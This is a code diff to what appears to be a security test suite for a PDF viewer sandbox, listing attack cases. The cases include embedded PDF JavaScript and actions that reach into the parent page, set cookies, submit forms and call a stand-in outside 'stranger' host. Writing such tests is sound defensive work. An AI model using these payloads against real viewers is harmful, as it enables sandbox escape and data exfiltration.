@@ -44,11 +44,9 @@ open('STRANGER/script');fetch('STRANGER/fetch');fetch('PORTAL/owned');top.locati
 	return []attack{
 		scripted("a script that walks out of the document", `this.parent.document.title="owned";top.document.body.innerHTML="owned";window.open("`+stranger+`/open");`+
 			`document.cookie="owned=1";localStorage.owned=1;fetch("`+stranger+`/fetch");new XMLHttpRequest().open("GET","`+portal+`/owned");`),
-		scripted("a script that sends a form to a stranger", `this.submitForm("`+stranger+`/submit");`),
-		scripted("a script that sends a form to the portal", `this.submitForm({cURL:"`+portal+`/owned",cSubmitAs:"HTML"});`),
-		scripted("a script that opens addresses", `app.launchURL("`+stranger+`/launch",true);`),
-		scripted("a script that leaves for an address", `this.getURL("`+stranger+`/get");app.launchURL("`+stranger+`/launch",false);`),
-		scripted("a script that fetches", `Net.HTTP.request({cVerb:"GET",cURL:"`+stranger+`/http"});SOAP.request({cURL:"`+stranger+`/soap"});`),
+		scripted("a script that sends forms", `try{this.submitForm({cURL:"`+portal+`/owned",cSubmitAs:"HTML"})}catch(e){} this.submitForm("`+stranger+`/submit");`),
+		scripted("a script that leaves for addresses", `for(f of [()=>app.launchURL("`+stranger+`/launch",true),()=>this.getURL("`+stranger+`/get"),`+
+			`()=>Net.HTTP.request({cVerb:"GET",cURL:"`+stranger+`/http"}),()=>SOAP.request({cURL:"`+stranger+`/soap"}),()=>app.launchURL("`+stranger+`/here",false)])try{f()}catch(e){}`),
 		pdf("an action that leaves for an address", "<</S/URI/URI("+stranger+"/uri)>>"),
 		pdf("an action that runs a script in the page", "<</S/URI/URI(javascript:top.document.title='owned')>>"),
 		pdf("an action that sends a form", "<</S/SubmitForm/F<</FS/URL/F("+stranger+"/submit)>>/Flags 4>>"),
